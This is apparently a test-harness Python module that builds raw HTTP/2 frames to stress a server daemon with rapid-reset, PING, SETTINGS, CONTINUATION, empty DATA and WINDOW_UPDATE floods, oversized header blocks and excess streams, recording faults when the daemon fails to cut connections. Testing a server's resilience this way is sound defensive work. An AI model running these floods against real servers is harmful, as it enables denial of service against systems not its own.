"""Attacks with the frames of HTTP/2, written by hand where a library would not let them out."""

import contextlib
import ssl
from typing import Callable

import h2.config
import h2.connection
import h2.events
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame, DataFrame, Frame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame)

from attacks import Attack, Tally, rounds
from target import ENDED, Target

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MOST_FRAMES = 20_000
"""Frames of a flood on one connection before the attack gives it up."""
GONE = (*ENDED, ssl.SSLError, TimeoutError, OSError)


class Peer:
    """One HTTP/2 connection on which anything may be sent."""

    def __init__(self, target: Target, timeout: float = 10):
        self.authority = target.authority
        self.socket = target.tls(protocol="h2", timeout=timeout)
        assert self.socket.selected_alpn_protocol() == "h2", "the daemon does not speak HTTP/2"
        self.encoder = Encoder()
        self.socket.sendall(PREFACE + SettingsFrame(0).serialize())

    def send(self, *frames: Frame) -> None:
        self.socket.sendall(b"".join(frame.serialize() for frame in frames))

    def head(self, path: str = "/v1/whoami", fields: list[tuple[str, str]] = []) -> bytes:
        return self.encoder.encode([
            (":method", "GET"), (":scheme", "https"), (":authority", self.authority), (":path", path), *fields])

    def request(self, stream: int, path: str = "/v1/whoami", flags: tuple[str, ...] = ("END_HEADERS", "END_STREAM")):
        return HeadersFrame(stream, self.head(path), flags=list(flags))

    def is_over(self, seconds: float) -> bool:
        """Whether the daemon ends the connection within that time. What it says until then is read and dropped."""
        self.socket.settimeout(seconds)
        try:
            while self.socket.recv(65536):
                pass
        except TimeoutError:
            return False
        except GONE:
            return True
        return True


def drain(connection: ssl.SSLSocket) -> None:
    """Reads what is there; raises where that is the end."""
    connection.setblocking(False)
    try:
        while connection.recv(65536):
            pass
        raise ConnectionResetError
    except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
        connection.settimeout(10)


def flood(
    target: Target, tally: Tally, name: str, batch: Callable[[Peer, int], list[Frame]], size: int,
    must_end: bool = True
) -> None:
    """Sends batches of frames on connection after connection. The daemon must end each one soon, unless it need not.

    What is counted is what the kernel took, which is more than what the daemon read before it ended the connection.

    - Parameter batch: makes the frames of the batch with that number, `size` of them.
    """
    for _ in rounds(tally, 300, pause=0.02):
        count = 0
        try:
            with contextlib.closing((peer := Peer(target)).socket):
                while count < MOST_FRAMES and not tally.stop.is_set():
                    peer.send(*batch(peer, count // size))
                    count += size
                    drain(peer.socket)
                if must_end and count >= MOST_FRAMES and not peer.is_over(5):
                    tally.fault(f"{count} {name}, and the connection is still open")
        except GONE:
            tally.add("closed by the daemon")
        tally.add(name, count)
        tally.at_least("most on one connection", count)


def rapid_resets(target: Target, tally: Tally) -> None:
    def batch(peer: Peer, number: int) -> list[Frame]:
        streams = [2 * (50 * number + one) + 1 for one in range(50)]
        return [frame for stream in streams for frame in (peer.request(stream), RstStreamFrame(stream, 8))]

    flood(target, tally, "resets", batch, 50)


def pings(target: Target, tally: Tally) -> None:
    flood(target, tally, "PINGs", lambda peer, number: [PingFrame(0, b"simpul!!") for _ in range(100)], 100)


def settings(target: Target, tally: Tally) -> None:
    flood(target, tally, "SETTINGS", lambda peer, number: [
        SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 1000 + one}) for one in range(100)], 100)


def continuations(target: Target, tally: Tally) -> None:
    def batch(peer: Peer, number: int) -> list[Frame]:
        start = [peer.request(1, flags=("END_STREAM",))] if number == 0 else []
        return start + [ContinuationFrame(1, peer.encoder.encode([("x-a", "a")])) for _ in range(20)]

    flood(target, tally, "CONTINUATIONs", batch, 20)


def empty_data(target: Target, tally: Tally) -> None:
    def batch(peer: Peer, number: int) -> list[Frame]:
        start = [peer.request(1, flags=("END_HEADERS",))] if number == 0 else []
        return start + [DataFrame(1) for _ in range(20)]

    flood(target, tally, "empty DATA", batch, 20)


def window_updates(target: Target, tally: Tally) -> None:
    """One octet more of window each. The sum stays lawful, and a frame costs no more than as many octets of a body."""
    flood(target, tally, "WINDOW_UPDATEs", lambda peer, number: [
        WindowUpdateFrame(0, window_increment=1) for _ in range(100)], 100, must_end=False)


def huge_heads(target: Target, tally: Tally) -> None:
    """A head of 60 KiB, and one that a small dynamic table blows up to megabytes."""
    for number in rounds(tally, 2000):
        try:
            with contextlib.closing((peer := Peer(target, timeout=5)).socket):
                if number % 2:
                    block = peer.head(fields=[(f"x-{one}", "a" * 5000) for one in range(12)])
                else:
                    block = peer.head(fields=[("x-besar", "a" * 3900)]) + b"\xbe" * 12_000
                first, *rest = [block[index:index + 16_000] for index in range(0, len(block), 16_000)]
                frames: list[Frame] = [HeadersFrame(1, first, flags=["END_STREAM"])]
                frames += [ContinuationFrame(1, part) for part in rest]
                frames[-1].flags.add("END_HEADERS")
                peer.send(*frames)
                tally.add(answer_to(peer))
        except GONE:
            tally.add("closed by the daemon")


def answer_to(peer: Peer) -> str:
    """What comes of stream 1 of a peer, in a word; a 5xx or a 2xx is named as it is."""
    machine = client()
    machine.send_headers(1, [(":method", "GET"), (":scheme", "https"), (":authority", "x"), (":path", "/")], True)
    machine.clear_outbound_data_buffer()
    while octets := peer.socket.recv(65536):
        for event in machine.receive_data(octets):
            if isinstance(event, h2.events.ResponseReceived):
                return f"status {dict(event.headers)[b':status'].decode()}"
            if isinstance(event, (h2.events.StreamReset, h2.events.ConnectionTerminated)):
                return "refused"
    return "closed by the daemon"


def client() -> h2.connection.H2Connection:
    """A state machine of a client that has begun."""
    machine = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
    machine.initiate_connection()
    return machine


def many_streams(target: Target, tally: Tally) -> None:
    """150 calls that wait, on one connection: 100 may."""
    for _ in rounds(tally, 20):
        try:
            with contextlib.closing((peer := Peer(target, timeout=15)).socket):
                streams = [2 * number + 1 for number in range(150)]
                peer.send(*(peer.request(stream, "/v1/inbox?wait=1&type=tip") for stream in streams))
                served, refused = outcomes(peer, streams)
                tally.at_least("served on one connection", served)
                tally.add("refused", refused)
        except GONE:
            tally.add("closed by the daemon")


def outcomes(peer: Peer, streams: list[int]) -> tuple[int, int]:
    """How many of the streams were answered, and how many refused, when all are or the connection ends."""
    machine = client()
    served, refused = set(), set()
    for stream in streams[:100]:
        machine.send_headers(
            stream, [(":method", "GET"), (":scheme", "https"), (":authority", "x"), (":path", "/")], True)
    machine.clear_outbound_data_buffer()
    while len(served) + len(refused) < len(streams) and (octets := peer.socket.recv(65536)):
        for event in machine.receive_data(octets):
            if isinstance(event, h2.events.ResponseReceived):
                served.add(event.stream_id)
            elif isinstance(event, h2.events.StreamReset):
                refused.add(event.stream_id)
            elif isinstance(event, h2.events.ConnectionTerminated):
                return len(served), len(streams) - len(served)
    return len(served), len(refused)


RAPID_RESETS = Attack("HTTP/2 rapid reset", rapid_resets, threads=2)
PINGS = Attack("HTTP/2 PING flood", pings, threads=2)
SETTINGS = Attack("HTTP/2 SETTINGS flood", settings, threads=2)
CONTINUATIONS = Attack("HTTP/2 CONTINUATION flood", continuations, threads=2)
EMPTY_DATA = Attack("HTTP/2 empty DATA flood", empty_data, threads=2)
WINDOW_UPDATES = Attack("HTTP/2 WINDOW_UPDATE flood", window_updates)
HUGE_HEADS = Attack("HTTP/2 huge heads", huge_heads)
MANY_STREAMS = Attack("HTTP/2, 150 streams at once", many_streams)
